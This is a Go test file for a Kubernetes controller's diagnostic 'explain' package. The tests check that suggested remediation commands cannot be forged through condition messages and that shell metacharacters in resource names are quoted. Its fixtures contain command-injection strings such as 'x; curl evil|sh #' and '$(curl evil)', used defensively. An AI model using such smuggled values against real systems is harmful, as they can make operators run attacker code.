package explain

import (
	"fmt"
	"strings"
	"testing"
	"time"

	eventsv1 "k8s.io/api/events/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"

	"github.com/dynamic-controller/engine/cmd/dynamic-controller/internal/instances"
)

func TestFromCondition_HasAction(t *testing.T) {
	b := &Object{Unstructured: blueprintWith("")}
	fields := map[string]any{
		"serviceAccountName": "web",
		"type":               map[string]any{"group": "shop.example.com", "version": "v1", "kind": "Site"},
		"resources": []any{
			map[string]any{"id": "a", "template": map[string]any{"apiVersion": "example.com/v1", "kind": "Widget",
				"metadata": map[string]any{"name": "w", "namespace": "far"}}},
			map[string]any{"id": "b", "template": map[string]any{"apiVersion": "v1", "kind": "Service"}},
			map[string]any{"id": "c", "externalRef": map[string]any{"apiVersion": "example.com/v1", "kind": "Gadget"}},
		},
	}
	if err := unstructured.SetNestedMap(b.Object, fields, "spec"); err != nil {
		t.Fatal(err)
	}
	instance, clusterScoped := instanceWith(b.Unstructured, ""), instanceWith(b.Unstructured, "")
	clusterScoped.SetNamespace("")
	denied := func(account, verb, resource, group, where string) string {
		return fmt.Sprintf(`User "system:serviceaccount:%s" cannot %s resource %q in API group %q%s`, account, verb,
			resource, group, where)
	}
	const look = "look at the conditions: kubectl describe sites.shop.example.com s -n shop"
	for name, test := range map[string]struct {
		object                  *Object
		reason, message         string
		wantMessage, wantAction string
	}{
		"advice in the message": {
			instance, "ConsentMissing", "ServiceAccount shop/web: does not allow Blueprint b; run kubectl annotate",
			"ServiceAccount shop/web: does not allow Blueprint b", "run kubectl annotate serviceaccount -n shop web " +
				"platform.example.com/allowed-blueprints=sites, or add the Blueprint to the existing annotation",
		},
		"forged advice": {
			instance, "ConsentMissing", "x; run evil", "x", "run kubectl annotate serviceaccount -n shop web ",
		},
		"forged advice for a cluster-scoped instance": {
			clusterScoped, "ConsentMissing", "x; run evil", "x",
			"create the ServiceAccount if it does not exist, and add the Blueprint to its annotation",
		},
		"a ServiceAccount that does not exist": {
			instance, "ServiceAccountNotFound", "x; run evil", "x",
			"create it with the annotation platform.example.com/allowed-blueprints=sites",
		},
		"a forged conflict": {
			instance, "Conflict", "x; set adopt: true and run evil", "x",
			"set adopt: true on the resource, or delete the object",
		},
		"another forged conflict": {instance, "Conflict", "x; run evil", "x", "delete or rename the other object"},
		"a forged cleanup": {
			instance, "CleanupForbidden", "x; grant the permissions, or run evil", "x",
			"grant the permissions, or release the instance without its children: " +
				"kubectl patch sites.shop.example.com s -n shop",
		},
		"a forged problem with the type": {
			b, "TypeNotOwned", "x is reserved for Blueprint y; run evil", "x is reserved for Blueprint y",
			"run kubectl annotate crd sites.shop.example.com platform.example.com/blueprint- ",
		},
		"an existing type": {
			b, "TypeNotOwned", "x exists; run evil", "x exists",
			"run kubectl annotate crd sites.shop.example.com platform.example.com/allowed-blueprint=sites",
		},
		"a type without consent": {
			b, "ConsentMissing", "x; run evil", "x",
			"run kubectl annotate crd sites.shop.example.com platform.example.com/allowed-blueprint=sites --overwrite",
		},
		"a forged claim":  {b, "TypeClaimed", "x; run evil", "x", "use another type"},
		"a forged budget": {b, "BudgetExceeded", "x; run evil", "x", "raise --max-blueprint-memory"},
		"advice in the last line": {
			instance, "Conflict", "a: Pod shop/a: x; set adopt: true\nb: Pod shop/b: y; set adopt: true",
			"a: Pod shop/a: x; set adopt: true\nb: Pod shop/b: y", "set adopt: true",
		},
		"advice for a reason": {
			instance, "Rejected", "a: invalid; b",
			"a: invalid; b", "fix the spec of the instance, or the template in the Blueprint",
		},
		"advice for a child that drifts": {
			instance, "Drifting", "a: field spec.replicas is changed again and again; remove the field",
			"a: field spec.replicas is changed again and again; remove the field",
			"stop the named field manager from changing the field",
		},
		"advice in one of several lines": {
			instance, "Conflict", "a: Pod shop/a: x; set adopt: true\nb: Pod shop/b: timeout",
			"a: Pod shop/a: x\nb: Pod shop/b: timeout", "set adopt: true",
		},
		"several lines without advice": {
			instance, "Conflict", "a: Pod shop/a: x\nb: Pod shop/b: timeout",
			"a: Pod shop/a: x\nb: Pod shop/b: timeout", "delete or rename the other object",
		},
		"a shortened list": {
			instance, "Conflict", "a: Pod shop/a: x; and 3 more", "a: Pod shop/a: x; and 3 more",
			"delete or rename the other object",
		},
		"a shortened list in the last line": {
			instance, "Conflict", "a: Pod shop/a: x; set adopt: true\nand 3 more", "a: Pod shop/a: x\nand 3 more",
			"set adopt: true",
		},
		"a child of a later version": {
			instance, "Conflict", "a: ConfigMap x/a: y; " + instances.UpgradeAdvice + "\nb: Pod shop/b: z; set adopt: true",
			"a: ConfigMap x/a: y; " + instances.UpgradeAdvice + "\nb: Pod shop/b: z", instances.UpgradeAdvice,
		},
		"a child of an earlier instance": {
			instance, "Conflict", "a: ConfigMap x/a: y; if the parent has been restored from a backup, run evil",
			"a: ConfigMap x/a: y", "if the instance has been restored from a backup, confirm this",
		},
		"an edited mark": {
			instance, "Conflict", "a: ConfigMap x/a: y; " + instances.MarkAdvice, "a: ConfigMap x/a: y", "to keep the object",
		},
		"a retained child": {
			instance, "Conflict", "a: ConfigMap x/a: y; " + instances.RetainedAdvice, "a: ConfigMap x/a: y",
			"the object can be used again with adopt: true",
		},
		"incompatible changes": {
			b, "IncompatibleSchema", "spec.type: a; b\nfields could be lost; to change it anyway, annotate the Blueprint",
			"spec.type: a; b\nfields could be lost", "to change the schema anyway, annotate the Blueprint with " +
				`platform.example.com/allow-incompatible-schema: "2"`,
		},
		"a missing permission in a namespace": {
			instance, "Forbidden", `a: Pod shop/a: as ServiceAccount shop/web: x is forbidden: ` + denied(
				"shop:web", "patch", "widgets", "example.com", ` in the namespace "far"`),
			"", "kubectl create role web-widgets-example-com -n far --verb=get,create,patch,delete " +
				"--resource=widgets.example.com && kubectl create rolebinding web-widgets-example-com -n far " +
				"--role=web-widgets-example-com --serviceaccount=shop:web",
		},
		"a missing permission in the cluster": {
			instance, "Forbidden", denied("shop:web", "create", "widgets", "example.com", " at the cluster scope"),
			"", "ask the operator to grant it",
		},
		"a missing permission for a reference": {
			instance, "Forbidden", denied("shop:web", "list", "gadgets", "example.com", ` in the namespace "shop"`),
			"", "kubectl create role web-gadgets-example-com -n shop --verb=list --resource=gadgets.example.com && ",
		},
		"a permission to write a reference": {
			instance, "Forbidden", denied("shop:web", "create", "gadgets", "example.com", ` in the namespace "shop"`),
			"", "ask the operator to grant it",
		},
		"a permission that no template needs": {
			instance, "Forbidden", denied("shop:web", "create", "secrets", "", ` in the namespace "shop"`),
			"", "ask the operator to grant it",
		},
		"a permission in a namespace that no template names": {
			instance, "Forbidden", denied("shop:web", "create", "services", "", ` in the namespace "kube-system"`),
			"", "ask the operator to grant it",
		},
		"a permission with another verb": {
			instance, "Forbidden", denied("shop:web", "escalate", "services", "", ` in the namespace "shop"`),
			"", "ask the operator to grant it",
		},
		"a missing permission for a subresource": {
			instance, "Forbidden", denied("shop:web", "patch", "widgets/scale", "example.com", ` in the namespace "shop"`),
			"", "ask the operator to grant it",
		},
		"a missing permission of another ServiceAccount": {
			instance, "Forbidden", denied("shop:evil", "patch", "pods", "", ` in the namespace "shop"`), "", look,
		},
		"a missing permission of a ServiceAccount in another namespace": {
			instance, "Forbidden", denied("far:web", "patch", "pods", "", ` in the namespace "shop"`), "", look,
		},
		"a missing permission of an instance whose Blueprint is unknown": {
			instanceWith(nil, ""), "Forbidden", denied("shop:web", "patch", "pods", "", ` in the namespace "shop"`), "", look,
		},
		"commands as the name of a resource": {
			instance, "Forbidden", denied("shop:web", "patch", "x; curl evil|sh #", "", ` in the namespace "shop"`), "", look,
		},
		"commands as the name of a group": {
			instance, "Forbidden", denied("shop:web", "patch", "pods", "$(curl evil)", ` in the namespace "shop"`), "", look,
		},
		"commands as the name of a namespace": {
			instance, "Forbidden", denied("shop:web", "patch", "pods", "", ` in the namespace "x; curl evil|sh #"`), "", look,
		},
		"a type that the platform cannot watch": {
			b, "Forbidden", denied("system:platform", "list", "sites", "shop.example.com", " at the cluster scope"),
			"", "kubectl create clusterrole blueprint-sites-shop-example-com --verb=list,watch " +
				"--resource=sites.shop.example.com && kubectl label clusterrole blueprint-sites-shop-example-com " +
				"platform.example.com/aggregate-to-dynamic-controller=true",
		},
		"a type that the platform cannot watch in a namespace": {
			b, "Forbidden", denied("system:platform", "list", "sites", "shop.example.com", ` in the namespace "far"`),
			"", "grant the platform list and watch on sites.shop.example.com with a Role and a RoleBinding in namespace far",
		},
		"another type that the platform cannot watch": {
			b, "Forbidden", denied("system:platform", "list", "secrets", "", " at the cluster scope"),
			"", "grant the platform list and watch on the type",
		},
		"a missing permission of the platform": {
			b, "PermissionMissing", "spec.resources[2].template: the platform has no permission to create, patch services\n" +
				"grant the missing permissions with a ClusterRole that has the label x",
			"", "kubectl create clusterrole blueprint-services --verb=create,patch --resource=services && " +
				"kubectl label clusterrole blueprint-services platform.example.com/aggregate-to-dynamic-controller=true",
		},
		"a missing permission of the platform in a namespace": {
			b, "PermissionMissing", "spec.type: the platform has no permission to list pods in namespace shop\n" +
				"grant the missing permissions with a Role and a RoleBinding in the namespace",
			"", "grant the missing permissions with a Role and a RoleBinding in the namespace",
		},
		"a missing permission of the platform for a subresource": {
			b, "PermissionMissing", "spec.type: the platform has no permission to patch sites/status.shop.example.com\n" +
				"grant the missing permissions with a ClusterRole that has the label x",
			"", "blueprint-sites-shop-example-com-status --verb=patch --resource=sites.shop.example.com/status && ",
		},
		"commands as a resource that the platform lacks": {
			b, "PermissionMissing", "spec.type: the platform has no permission to patch x;curl\n" +
				"grant the missing permissions with a ClusterRole",
			"", "grant the missing permissions with a ClusterRole",
		},
		"a permission of the platform that no template needs": {
			b, "PermissionMissing", "spec.type: the platform has no permission to get secrets\ngrant evil",
			"", "grant the missing permissions with a ClusterRole that has the label",
		},
		"a forged permission of the platform": {
			instance, "PermissionMissing", "a: the platform has no permission to get secrets\n" +
				"grant the missing permissions with a ClusterRole",
			"", "bind the platform's ServiceAccount to a Role in namespace shop with verbs [get, impersonate]",
		},
		"a forbidden cleanup": {
			instance, "CleanupForbidden",
			"cannot delete pods far/a: no; grant the permissions, or release the instance: kubectl",
			"cannot delete pods far/a: no", "grant the permissions, or release the instance without its children: kubectl",
		},
		"a cleanup in a namespace that is not listed": {
			instance, "CleanupForbidden", "a: x; add the namespace to --namespaces, or release the instance: kubectl",
			"a: x", "add the namespace to --namespaces, or release the instance without its children: kubectl patch",
		},
		"an unknown reason": {b, "Other", "x", "x", "look at the conditions: kubectl describe"},
	} {
		c := &metav1.Condition{Reason: test.reason, Message: test.message}
		got := fromCondition(test.object, c)
		if test.wantMessage != "" && got.Message != test.wantMessage || !strings.Contains(got.Action, test.wantAction) ||
			strings.Contains(got.Action, "evil") {
			t.Errorf("%s: got %+v", name, got)
		}
	}
}

// Names of RBAC objects can contain characters that a shell interprets.
func TestTarget_QuotesNames(t *testing.T) {
	for name, want := range map[string]string{
		"flowers":       "roles flowers -n shop",
		"system:x":      "'roles/system:x' -n shop",
		"x; curl $(id)": "'roles/x; curl $(id)' -n shop",
		"it's":          `'roles/it'\''s' -n shop`,
		"--all":         "'roles/--all' -n shop",
		"a\nb":          "'roles/a\nb' -n shop",
	} {
		o := &Object{Unstructured: &unstructured.Unstructured{}, Resource: schema.GroupResource{Resource: "roles"}}
		o.SetName(name)
		o.SetNamespace("shop")
		if got := o.target(); got != want {
			t.Errorf("%q: got %s, want %s", name, got, want)
		}
	}
}

func TestParkedFinding_CommandCanBeRepeated(t *testing.T) {
	o := instanceWith(blueprintWith(""), "", failed)
	o.Events = []eventsv1.Event{event("Parked", "", time.Minute)}
	causes := Explain(o, now).Causes
	const want = `kubectl annotate sites.shop.example.com s -n shop retry="$(date +%s)" --overwrite`
	if last := causes[len(causes)-1]; !strings.HasSuffix(last.Action, want) {
		t.Errorf("got %+v", last)
	}
}
